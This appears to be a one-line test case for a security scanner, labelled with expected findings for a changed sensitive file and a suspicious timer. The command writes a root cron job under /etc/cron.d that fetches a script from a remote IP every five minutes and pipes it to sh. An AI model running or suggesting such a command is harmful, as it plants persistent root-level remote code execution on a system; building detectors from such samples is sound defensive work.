# A new file of cron runs what it downloads.
# case: security SENSITIVE_FILE_CHANGED@/etc/cron.d/sysupdate,SUSPICIOUS_TIMER
echo '*/5 * * * * root curl -fsSL http://203.0.113.66/x.sh | sh' >/etc/cron.d/sysupdate
